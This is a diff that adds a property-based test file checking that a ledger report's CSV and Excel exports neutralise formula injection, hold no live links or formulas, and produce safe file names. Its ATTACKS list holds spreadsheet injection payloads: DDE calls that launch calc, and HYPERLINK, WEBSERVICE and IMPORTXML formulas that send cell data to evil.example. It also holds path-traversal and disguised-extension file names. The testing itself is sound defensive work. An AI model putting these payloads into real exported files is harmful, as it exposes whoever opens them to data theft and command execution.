@@ -1,0 +1,218 @@
+/** No text of the ledger is a formula in an exported file (D38); read by other readers than the product's. */
+import { parse } from 'csv-parse/sync';
+import { strFromU8, unzipSync } from 'fflate';
+import fc from 'fast-check';
+import { JSDOM } from 'jsdom';
+import { createReportView } from '../../src/report';
+import { exportFileName, exportReport } from '../../src/report/export';
+import type { ExportFormat, ExportSource } from '../../src/report/export';
+import { reportOf, rowsOf } from '../report/fixtures';
+import { meta, sourceOf, ZONE } from '../report/export/support';
+
+/** What spreadsheets take for the beginning of a formula: also after a line feed, and as wide letters of Asia. */
+const BEGINNING = /^[=+\-@\t\r\n＝＋－＠]/;
+/** What people write into a field to see whether it runs. */
+const ATTACKS = [
+  '=1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+  '=WEBSERVICE("https://evil.example/"&A1)',
+  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\r\n=1+1',
+  '＝1+1',
+  '＠SUM(A1)',
+  '";=1+1',
+  '",=1+1,"',
+  '"\r\n=1+1',
+  "'=1+1",
+  '=1+1;=1+1',
+  '-1-1',
+  '-$5.00',
+  '--5',
+  '+',
+  '-',
+  '=',
+  '@',
+  'DDE("cmd","/C calc","x")',
+  '<c r="A1"><f>1+1</f></c>',
+  ']]><f>1+1</f>',
+  '&G&P',
+] as const;
+const anyText = fc.oneof(
+  fc.constantFrom(...ATTACKS),
+  fc.string({ unit: 'grapheme' }),
+  fc
+    .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '＝', ' '), fc.string({ maxLength: 6 }))
+    .map((pair) => pair.join('')),
+);
+const cents = fc.integer({ min: -99_999_999, max: 99_999_999 });
+
+/** A report of which every text came from outside: cells, groups, filters, title, agency and user. */
+const anyHostile: fc.Arbitrary<ExportSource> = fc
+  .record({
+    rows: fc.array(fc.record({ name: anyText, memo: anyText, cents }), { minLength: 1, maxLength: 6 }),
+    title: anyText,
+    filter: fc.tuple(anyText, anyText),
+    agency: anyText,
+    user: anyText,
+    group: anyText,
+  })
+  .map(({ rows, title, filter: [label, value], agency, user, group }) => {
+    const data = rowsOf(
+      ...rows.map(({ name, memo, cents: amount }) => ({ name, memo, amount: amount / 100 })),
+    );
+    const source = sourceOf(createReportView(reportOf(data), ZONE), {}, ['name', 'memo', 'amount']);
+    return {
+      ...source,
+      meta: { ...meta, title, agency, user, filters: [{ label, value }] },
+      groups: [{ label: group, count: rows.length, totals: source.totals }],
+    };
+  });
+
+async function bytesOf(source: ExportSource, format: ExportFormat): Promise<Uint8Array> {
+  return new Uint8Array(await (await exportReport({ ...source, format })).arrayBuffer());
+}
+
+async function csvCells(source: ExportSource): Promise<string[]> {
+  const text = new TextDecoder().decode(await bytesOf(source, 'csv'));
+  return parse(text, { bom: true, record_delimiter: '\r\n' }).flat();
+}
+
+/** A number, as every spreadsheet and every reader of numbers takes it. */
+const isNumber = (cell: string): boolean =>
+  /\d/.test(cell) && !Number.isNaN(Number(cell.replaceAll(',', '')));
+
+describe('CSV', () => {
+  it('has no cell that begins as a formula, but for numbers', async () => {
+    await fc.assert(
+      fc.asyncProperty(anyHostile, async (source) => {
+        const running = (await csvCells(source)).filter((cell) => BEGINNING.test(cell) && !isNumber(cell));
+        expect(running).toEqual([]);
+      }),
+    );
+  });
+
+  it('keeps amounts numbers, negative ones too', async () => {
+    await fc.assert(
+      fc.asyncProperty(fc.array(cents, { minLength: 1, maxLength: 5 }), async (list) => {
+        const rows = rowsOf(...list.map((one) => ({ amount: one / 100 })));
+        const source = sourceOf(createReportView(reportOf(rows), ZONE), {}, ['amount']);
+        const cells = (await csvCells(source)).map((cell) => Math.round(Number(cell) * 100));
+        for (const one of list) expect(cells).toContain(one === 0 ? 0 : one);
+      }),
+    );
+  });
+
+  it.each(ATTACKS)('leaves %j readable', async (name) => {
+    const source = sourceOf(createReportView(reportOf(rowsOf({ name })), ZONE), {}, ['name', 'amount']);
+    const cells = await csvCells(source);
+    expect(cells).toContain(BEGINNING.test(name) ? `'${name}` : name);
+  });
+});
+
+interface Workbook {
+  readonly xml: ReadonlyMap<string, Document>;
+  readonly texts: readonly string[];
+}
+
+const { DOMParser } = new JSDOM('').window;
+
+async function workbook(source: ExportSource): Promise<Workbook> {
+  const xml = new Map(
+    Object.entries(unzipSync(await bytesOf(source, 'xlsx'))).map(([path, bytes]) => {
+      const document = new DOMParser().parseFromString(strFromU8(bytes), 'application/xml');
+      if (document.querySelector('parsererror')) throw new Error(`${path} is no XML`);
+      return [path, document];
+    }),
+  );
+  const strings = xml.get('xl/sharedStrings.xml')?.querySelectorAll('si > t') ?? [];
+  return { xml, texts: [...strings].map(({ textContent }) => textContent) };
+}
+
+const PARTS = [
+  '[Content_Types].xml',
+  '_rels/.rels',
+  'docProps/core.xml',
+  'xl/_rels/workbook.xml.rels',
+  'xl/sharedStrings.xml',
+  'xl/styles.xml',
+  'xl/workbook.xml',
+  'xl/worksheets/sheet1.xml',
+  'xl/worksheets/sheet2.xml',
+];
+/** Everything by which a workbook computes, fetches, links or shows what is not in its cells. */
+const LIVE =
+  'f, hyperlink, oleObject, externalReference, ddeLink, connection, drawing, legacyDrawing, picture';
+
+describe('Excel', () => {
+  it('holds texts as texts and amounts as numbers, and nothing that computes, links or fetches', async () => {
+    await fc.assert(
+      fc.asyncProperty(anyHostile, async (source) => {
+        const { xml } = await workbook(source);
+        expect([...xml.keys()].sort()).toEqual(PARTS);
+        for (const document of xml.values()) {
+          expect(document.querySelectorAll(LIVE)).toHaveLength(0);
+          expect(document.querySelectorAll('[TargetMode]')).toHaveLength(0);
+        }
+        const cells = [...xml.values()].flatMap((document) => [...document.querySelectorAll('sheetData c')]);
+        expect(cells.length).toBeGreaterThan(0);
+        for (const cell of cells) {
+          const value = cell.querySelector('v')?.textContent ?? '';
+          const [type, style] = [cell.getAttribute('t'), Number(cell.getAttribute('s'))];
+          const format = xml
+            .get('xl/styles.xml')
+            ?.querySelectorAll('cellXfs > xf')
+            [style]?.getAttribute('numFmtId');
+          expect(['s', null]).toContain(type);
+          // A text by its number among the texts, as Text: it stays one when somebody edits the cell.
+          if (type === 's')
+            expect([/^\d+$/.test(value), ['49', '0']]).toEqual([true, expect.arrayContaining([format])]);
+          else expect(Number.isFinite(Number(value)) && value !== '').toBe(true);
+        }
+        const sums = source.totals['amount'] ?? 0;
+        const numbers = cells.filter((cell) => cell.getAttribute('t') === null);
+        expect(numbers.map((cell) => Math.round(Number(cell.textContent) * 100) + 0)).toContain(sums);
+      }),
+      { numRuns: 40 },
+    );
+  });
+
+  it('has no field codes of a title in its header: those of Excel begin with one &', async () => {
+    await fc.assert(
+      fc.asyncProperty(anyHostile, async (source) => {
+        const { xml } = await workbook(source);
+        const header = xml.get('xl/worksheets/sheet1.xml')?.querySelector('oddHeader')?.textContent ?? '';
+        const codes = header.replaceAll('&&', '').match(/&./gsu) ?? [];
+        expect(codes).toEqual(['&L', '&R']);
+      }),
+      { numRuns: 20 },
+    );
+  });
+
+  it.each(ATTACKS)('keeps %j as it is', async (name) => {
+    const source = sourceOf(createReportView(reportOf(rowsOf({ name })), ZONE), {}, ['name', 'amount']);
+    const plain = (text: string) => text.replace(/_x000D_/g, '\r');
+    expect((await workbook(source)).texts.map(plain)).toContain(name);
+  });
+});
+
+it('The name of a file is a name, whatever the title: no folder, no other ending', () => {
+  fc.assert(
+    fc.property(
+      fc.oneof(anyText, fc.constantFrom('../../x', 'a.exe\u202efdp', 'CON', '.htaccess')),
+      (title) => {
+        for (const format of ['csv', 'xlsx'] as const) {
+          const name = exportFileName({ ...meta, title }, format);
+          expect(name).toMatch(/^[^\\/:*?"<>|\p{C}.][^\\/:*?"<>|\p{C}]* \d{4}-\d\d-\d\d \d{4}\.(csv|xlsx)$/u);
+          expect(name.endsWith(`.${format}`)).toBe(true);
+        }
+      },
+    ),
+  );
+});
